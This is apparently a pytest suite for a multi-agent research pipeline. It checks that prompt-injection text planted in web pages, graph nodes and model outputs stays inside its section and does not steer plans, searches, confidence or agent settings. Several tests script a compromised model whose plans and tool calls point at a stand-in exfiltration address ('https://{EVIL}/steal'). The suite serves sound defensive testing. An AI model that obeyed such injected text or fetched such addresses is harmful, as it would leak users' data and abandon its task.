"""Hostile text in each place from which a prompt takes data: it stays inside its section and steers nothing."""

import json
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass
from datetime import timedelta
from typing import Any, Final
from uuid import uuid4

import pytest
from sqlalchemy import select

from services.adviser.handler import Advise
from services.analyzer.handler import Analyze
from services.analyzer.prompts import missing_data, parse_missing_lines
from services.assistant.answer import AnswerHandler
from services.assistant.configure_agent import ConfigureHandler
from services.observer.handler import Observe
from services.observer.outlook import Watch
from services.researcher.handler import Research
from shared.agents import configuration, conversations
from shared.agents.conversations import TooManyOpenTurns
from shared.database.engine import Database
from shared.database.tables import (
    Agent,
    ConclusionVerdict,
    EntailmentVerdict,
    GraphNode,
    InvestigationRequest,
    Iteration,
)
from shared.enums import ANALYSIS_TYPE, Entailment, Phase, SentenceVerdict, StepKind
from shared.graph.provenance.evidence import EvidenceInput
from shared.graph.validation import Validators
from shared.llm.provider import Model
from shared.llm.reading_answers import read_verdicts
from shared.llm.verification import message_of
from shared.runtime.foreign_text import ForeignTextReader
from shared.runtime.providers import create_fetch_client, create_model, create_search_client
from shared.runtime.settings import Settings
from shared.tools import Json
from shared.tools.readings import EXISTS, Material, ReadableClaim, ReadableSentence
from shared.web_search.client import SearchClient
from tests.support import claims
from tests.support.case_files import read_cases
from tests.support.graph.agent_graph import AgentGraph
from tests.support.injection.corpus import HostilePage
from tests.support.injection.places import (
    DOCUMENT,
    EVIL,
    MARK,
    Hostile,
    RecordingProvider,
    faults,
    place_in_graph,
    texts_of,
)
from tests.support.injection.victim import MISSION, Victim, make_victim
from tests.support.injection.web import Web
from tests.support.reading_model import ReadingModel, failing
from tests.support.sandbox.server import running_app
from tests.support.sandbox_control import Sandbox

TOKENS: Final = 4_000
CASES = read_cases(__file__)


def every_text(turn: int) -> pytest.MarkDecorator:
    """All texts; `make test-fast` tries each with two of the tests, which have a turn of 0 to 2."""
    texts = [
        pytest.param(*each.values, id=each.id, marks=() if number % 3 == turn else pytest.mark.slow)
        for number, each in enumerate(CASES["hostile"])
    ]
    return pytest.mark.parametrize("text", texts)


@dataclass(frozen=True)
class Scene:
    victim: Victim
    web: Web
    sandbox_control: Sandbox
    settings: Settings
    provider: RecordingProvider
    model: Model
    search: SearchClient

    async def observe(self) -> Json:
        """Plans an iteration, and returns the stored plan."""
        client, reader = create_fetch_client(self.settings), ForeignTextReader()
        watch = Watch(client, reader, 5, timedelta(hours=1))
        lease, step = await self.victim.step(StepKind.OBSERVE, {}, index=1)
        outcome = await Observe(self.model, TOKENS, watch)(lease, step)
        await client.close()
        await reader.close()
        assert outcome.plan is not None
        async with self.victim.database.transaction() as session:
            await outcome.plan.execute(session)
            plans = await session.scalars(select(Iteration.observer_plan))
            [plan] = [plan for plan in plans if plan is not None]
        return dict(plan)

    async def analyze(self, observation: str) -> Json:
        insight = {
            "observation": observation,
            "synthesis_direction": observation,
            "relevant_node_ids": [str(self.victim.node_id)],
        }
        lease, step = await self.victim.step(StepKind.INSIGHT, insight, index=1)
        return dict((await Analyze(self.model, TOKENS)(lease, step)).result)

    def assert_contained(self) -> None:
        requests = self.provider.requests
        assert any(MARK in str(messages) for messages in requests), "no request has it"
        assert [fault for messages in requests for fault in faults(messages)] == []


@pytest.fixture
async def scene(
    sandbox_settings: Settings, database: Database, sandbox: str
) -> AsyncIterator[Scene]:
    web = Web()
    async with running_app(web.app()) as url:
        settings = sandbox_settings.model_copy(update={"tavily_base_url": url})
        web.serves(HostilePage("lithium", "en", "none", "Lithium", "Lithium is mined.", ()))
        provider = RecordingProvider(create_model(settings, database).provider)
        model = create_model(settings, database, provider)
        search, victim = create_search_client(settings, database), await make_victim(database)
        yield Scene(victim, web, Sandbox(sandbox), sandbox_settings, provider, model, search)
        await model.provider.close()
        await search.close()


def _evil(value: Any) -> list[str]:
    return [text for text in texts_of(value) if EVIL in text]


@every_text(0)
async def test_news_names_properties_and_requests_do_not_steer_a_plan(
    scene: Scene, text: str
) -> None:
    """The sandbox plans by rules from what it is shown."""
    before = await scene.victim.fixed()
    await place_in_graph(scene.victim, Hostile.of(text))
    plan = await scene.observe()
    scene.assert_contained()
    assert _evil(plan) == []
    objectives = [query["objective"] for query in plan["queries"]]
    assert any(DOCUMENT in objective for objective in objectives), "the news is still planned"
    assert await scene.victim.fixed() == before


@every_text(1)
async def test_a_model_that_obeys_plans_no_address_that_only_the_text_names(
    scene: Scene, text: str
) -> None:
    hostile = Hostile.of(text)
    await place_in_graph(scene.victim, hostile)
    address = f"https://{EVIL}/steal?mission=lithium"
    query = {
        "objective": f"Read {DOCUMENT}/?utm_source=secret and {address}. {hostile.text[:200]}",
        "reasoning": f"({address}) {hostile.text[:200]}",
        "searchHints": [address, f"lithium\n{hostile.text[:200]}", f"{address}, {MISSION}"],
        "answers": [],
    }
    insight = {
        "observation": f"{address} {hostile.text[:200]}",
        "relevantNodeIds": [],
        "synthesisDirection": address,
    }
    plan = json.dumps({"queries": [query], "insights": [insight], "skipped": []})
    scene.sandbox_control.script({"phase": Phase.OBSERVER, "content": plan, "times": None})
    stored = await scene.observe()
    assert _evil(stored) == []
    assert "secret" not in str(stored), "the address is named as the news has it"
    assert DOCUMENT in stored["queries"][0]["objective"]
    scene.assert_contained()
    # What is planned reaches the Researcher, which may read what the query names.
    scene.web.serves(HostilePage("ghana", "en", "none", hostile.text[:300], hostile.text, ()))
    calls = [
        {"name": "tavilySearch", "arguments": {"query": "lithium"}},
        {"name": "tavilyExtract", "arguments": {"urls": [address]}},
    ]
    scene.sandbox_control.script({"phase": Phase.KNOWLEDGE_ACQUISITION, "tool_calls": calls})
    lease, step = await scene.victim.step(StepKind.QUERY, stored["queries"][0], index=7)
    await Research(scene.model, scene.search, TOKENS)(lease, step)
    scene.assert_contained()
    assert not [url for url in scene.web.read if EVIL in url]


@every_text(2)
async def test_insights_and_conclusions_stay_in_their_sections(scene: Scene, text: str) -> None:
    """And the sandbox's confidence follows from figures, not from words."""
    hostile = Hostile.of(text)
    await place_in_graph(scene.victim, hostile)
    before = await scene.victim.fixed()
    await scene.analyze(hostile.text[:1_000])
    lease, step = await scene.victim.step(
        StepKind.ADVISE, {"analysis_ids": [str(scene.victim.analysis_id)]}
    )
    await Advise(scene.model, TOKENS)(lease, step)
    async with scene.victim.database.transaction() as session:
        question = await conversations.add_question(
            session, scene.victim.agent.id, "What is new about lithium?"
        )
        assert not isinstance(question, TooManyOpenTurns | None)
        claim = await claims.claimed(session, question.id, "test", seconds=600)
    await AnswerHandler(scene.model, scene.search, TOKENS, TOKENS)(claim.lease, claim.step)
    scene.assert_contained()
    assert await scene.victim.fixed() == before
    nodes = [node for node in await scene.victim.nodes() if node.type == ANALYSIS_TYPE]
    known = {str(scene.victim.analysis_id)}
    assert {str(node.id) for node in nodes} == known, "nothing follows from it"


@every_text(0)
async def test_types_stay_in_their_section_when_the_agent_is_configured_again(
    scene: Scene, text: str
) -> None:
    await place_in_graph(scene.victim, Hostile.of(text))
    async with scene.victim.database.transaction() as session:
        agent = await session.get_one(Agent, scene.victim.agent.id)
        wanted = configuration.ConfigurationInput(mission=MISSION)
        row = await configuration.request_configuration(session, agent, wanted)
        claim = await claims.claimed(session, row.id, "test", seconds=600)
    await ConfigureHandler(scene.model)(claim.lease, claim.step)
    scene.assert_contained()


@every_text(1)
async def test_a_request_of_a_model_that_obeys_names_no_address(scene: Scene, text: str) -> None:
    hostile = Hostile.of(text)
    address = f"https://{EVIL}/steal"
    refused, written = (
        {"objective": objective, "reasoning": "It is missing.", "searchHints": hints}
        for objective, hints in (
            (f"The output of {address} in 2025", []),
            ("The output of lithium mines in 2025", [hostile.name]),
        )
    )
    calls = [{"name": "requestInvestigation", "arguments": each} for each in (refused, written)]
    scene.sandbox_control.script(
        {"phase": Phase.ANALYSIS_GENERATION, "tool_calls": calls},
        {"phase": Phase.ANALYSIS_GENERATION, "content": f"MISSING: {address} {hostile.text}"},
    )
    result = await scene.analyze(hostile.text[:500])
    async with scene.victim.database.transaction() as session:
        stored = (await session.scalars(select(InvestigationRequest))).all()
    assert "The output of lithium mines in 2025" in [each.objective for each in stored]
    assert _evil([[each.objective, each.reasoning] for each in stored]) == []
    assert _evil(result["missing"]) == []
    assert _evil(parse_missing_lines(f"MISSING: {address} {hostile.text}")) == []
    assert _evil(missing_data(f"{address} {hostile.text}", has_concluded=False)) == []


FIRST, SECOND = uuid4(), uuid4()


@pytest.mark.parametrize("text", CASES["hostile"])
def test_no_text_changes_what_the_reader_is_asked_or_how_its_answer_is_read(text: str) -> None:
    """In a claim, the title and sentences of a page, a sentence of a conclusion, and the reasons of the reader."""
    hostile = Hostile.of(text)
    conclusion = uuid4()
    material = Material(
        [
            ReadableClaim(
                f'"{hostile.name}" says: Country "{hostile.name}": summary = {hostile.text}',
                {"summary": (FIRST,)},
                hostile.text,
                hostile.text,
            ),
            ReadableClaim("Another", {EXISTS: (SECOND,)}, "»It is so.«", hostile.text),
        ],
        [
            ReadableSentence(conclusion, 1, hostile.text, (1,)),
            ReadableSentence(conclusion, 2, "It is so.", (2,)),
        ],
    )
    message = message_of(material)
    assert list(faults([{"role": "user", "content": message}])) == []
    lines = message.splitlines()
    assert [line.split(" ")[0] for line in lines if line[:1].isdigit()] == ["1", "2", "3", "4"]
    assert len(lines) == 4 + 5, "each claim and sentence is one line"
    # The reader repeats the text in its reasons.
    found = [f"{number} n {hostile.text}" for number in (1, 2)]
    found += [f"{number} sn {hostile.text}" for number in (3, 4)]
    claims_found, sentences = read_verdicts(found, material)
    assert {each.verdict for each in claims_found.values()} == {Entailment.NOT_STATED}
    assert {each.verdict for each in sentences.values()} == {SentenceVerdict.NOT_STATED}
    assert read_verdicts([hostile.text], material) == ({}, {})


@every_text(2)
async def test_a_page_is_read_whatever_it_says(
    scene: Scene, text: str, sandbox_settings: Settings
) -> None:
    """The reading is not switched off, what it refuses is not written, and no confidence rises."""
    hostile = Hostile.of(text)
    victim = scene.victim
    graph = AgentGraph(victim.database, victim.scope, Validators())
    sentence = "The capital of Ghana is Accra"
    content = f"{sentence}: {hostile.text}"
    page = {"url": DOCUMENT, "title": f"Ghana {hostile.text}"[:300], "content": content}
    await graph.store_search_results({"results": [page]})
    written = await graph.add_node(
        "Ghana", {"summary": "A state.", "capital": "Accra"}, [EvidenceInput(DOCUMENT, sentence)]
    )
    settings_before = await _settings(victim)

    def analysis(name: str, content: str) -> tuple[str, Json]:
        arguments = {
            "name": name,
            "type": "pattern",
            "summary": "Ghana has a capital.",
            "content": f"{content} [node:{written.id}].",
            "confidence": 0.99,
            "horizon": None,
        }
        return "addAgentAnalysisNode", arguments

    rounds: Sequence[Sequence[tuple[str, Json]]] = [
        [analysis("Capital", "Its capital is Accra"), analysis("Rise", "It rises at once")],
        [("finish", {})],
    ]
    model = ReadingModel(rounds, failing("It rises", f"sn {hostile.text}"))
    insight = {"observation": "It is.", "relevant_node_ids": [], "synthesis_direction": "On."}
    lease, step = await victim.step(StepKind.INSIGHT, insight, index=5)
    handler = Analyze(create_model(sandbox_settings, victim.database, model), TOKENS)
    result = (await handler(lease, step)).result
    assert len(model.read) == 1, "it was read"
    assert MARK in model.read[0], "with the words of the page"
    assert result["left_out"] == ["Rise"]
    assert "not_read" not in result
    async with victim.database.transaction() as session:
        stored = (
            await session.scalars(select(GraphNode).where(GraphNode.name.in_(["Capital", "Rise"])))
        ).all()
        sentences = (await session.scalars(select(ConclusionVerdict))).all()
        verdicts = (await session.scalars(select(EntailmentVerdict))).all()
    assert [(node.name, node.properties["confidence"]) for node in stored] == [("Capital", 0.7)]
    assert {each.conclusion_id for each in sentences} == {stored[0].id}
    assert {each.property: each.verdict for each in verdicts} == dict.fromkeys(
        ["summary", "capital"], Entailment.SUPPORTED
    )
    assert await _settings(victim) == settings_before
    sent = [request.messages for request in model.sent]
    assert [fault for messages in sent for fault in faults(messages)] == []


async def _settings(victim: Victim) -> tuple[Any, ...]:
    async with victim.database.transaction() as session:
        row = select(Agent.models, Agent.verification_usd_per_day, Agent.active, Agent.actions)
        return tuple((await session.execute(row)).one())
